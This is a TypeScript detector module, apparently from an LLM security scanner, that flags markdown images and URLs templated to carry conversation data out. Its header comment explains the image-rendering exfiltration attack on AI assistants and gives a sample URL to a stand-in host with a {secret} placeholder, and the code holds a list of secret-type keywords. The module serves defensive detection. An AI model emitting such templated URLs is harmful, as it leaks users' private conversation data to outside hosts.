/**
 * URL exfiltration: markdown images and links (and bare URLs) whose URL carries a template
 * for conversation data, e.g. `![](https://x.example/p?q={secret})`. A model that renders
 * the image makes the client fetch the URL, sending whatever it filled in. One pass over
 * the text; URLs are cut at 4 KiB.
 * @module
 */

/** A URL finding before it becomes a Threat. */
export interface UrlFinding {
  name: string;
  confidence: number;
  description: string;
}

const MAX_URL = 4096;
const MAX_URLS = 256;
const DATA_WORDS = new Set(
  `secret secrets data conversation convo chat history summary summarized password passwords pass pwd key apikey token tokens info
  information prompt system message messages context memory memories email emails credentials creds answer response user
  username name address phone ssn card cc dob details content text transcript dialogue previous all everything output query
  question questions input pii personal private env environment cookie cookies session notes document file files here
  b64 base64 encoded`.split(/\s+/),
);

function urlEnd(c: number): boolean {
  return c <= 0x20 || c === 0x22 || c === 0x27 || c === 0x29 || c === 0x3e || c === 0x60 || c === 0x5c;
}

/** Placeholders in a URL (`{x}`, `{{x}}`, `[x]`, `<x>`, `%7Bx%7D`, `$X`, `INSERT_X`), each as its inner words. */
function placeholders(url: string): string[][] {
  const u = url.replace(/%7b/gi, '{').replace(/%7d/gi, '}').replace(/%5b/gi, '[').replace(/%5d/gi, ']').replace(/%3c/gi, '<').replace(/%3e/gi, '>').replace(/%24/g, '$');
  const out: string[][] = [];
  const pairs: Record<string, string> = { '{': '}', '[': ']', '<': '>' };
  for (let i = 0; i < u.length && out.length < 32; i++) {
    const close = pairs[u[i]];
    if (close) {
      const j = u.indexOf(close, i + 1);
      if (j > i && j - i < 200) {
        out.push(words(u.slice(i + 1, j)));
        i = j;
      }
    } else if (u[i] === '$' && /[A-Za-z_]/.test(u[i + 1] ?? '')) {
      let j = i + 1;
      while (j < u.length && /[A-Za-z0-9_]/.test(u[j])) j++;
      out.push(words(u.slice(i + 1, j)));
      i = j - 1;
    }
  }
  const lower = u.toLowerCase();
  for (const marker of ['insert_', 'insert-', 'replace_', 'replace-', '_here', '-here', 'placeholder', 'xxxxx', '...']) {
    const at = lower.indexOf(marker);
    if (at >= 0) out.push(words(lower.slice(Math.max(0, at - 40), at + 40)));
  }
  return out;
}

function words(s: string): string[] {
  return s
    .replace(/([a-z])([A-Z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter(Boolean);
}

/** Finds exfiltration URLs in `text`. */
export function findExfilUrls(text: string): UrlFinding[] {
  const found: UrlFinding[] = [];
  let best = 0;
  let seen = 0;
  let from = 0;
  for (;;) {
    const h = text.indexOf('http', from);
    if (h < 0 || seen >= MAX_URLS) break;
    const rest = text.slice(h, h + 8).toLowerCase();
    if (!rest.startsWith('http://') && !rest.startsWith('https://')) {
      from = h + 4;
      continue;
    }
    seen++;
    let e = h;
    // A placeholder may contain spaces ("{the user's email}"): let the URL run through braces.
    let brace = 0;
    while (e < text.length && e - h < MAX_URL) {
      const c = text.charCodeAt(e);
      if (c === 0x7b || c === 0x5b || c === 0x3c) brace++;
      else if ((c === 0x7d || c === 0x5d || c === 0x3e) && brace > 0) brace--;
      else if (brace === 0 && urlEnd(c)) break;
      else if (brace > 0 && (c === 0x0a || c === 0x29)) break;
      e++;
    }
    const url = text.slice(h, e);
    from = e;
    const image = text.slice(Math.max(0, h - 400), h).lastIndexOf('![') >= 0 && text.slice(Math.max(0, h - 2), h) === '](';
    const markdownLink = text.slice(Math.max(0, h - 2), h) === '](';
    const holes = placeholders(url);
    const q = url.indexOf('?');
    const dataHole = holes.some((ws) => ws.some((x) => DATA_WORDS.has(x)));
    const queryHole = q >= 0 && placeholders(url.slice(q)).length > 0;
    let confidence = 0;
    if (dataHole) confidence = image ? 0.95 : markdownLink ? 0.9 : 0.86;
    else if (queryHole) confidence = image ? 0.86 : 0.7;
    if (confidence > best) best = confidence;
    if (confidence >= 0.5 && found.length < 8) {
      found.push({
        name: image ? 'markdown_image_exfiltration' : markdownLink ? 'markdown_link_exfiltration' : 'url_template_exfiltration',
        confidence,
        description: image ? 'Markdown image whose URL is a template for conversation data' : 'URL that is a template for conversation data',
      });
    }
  }
  return found;
}
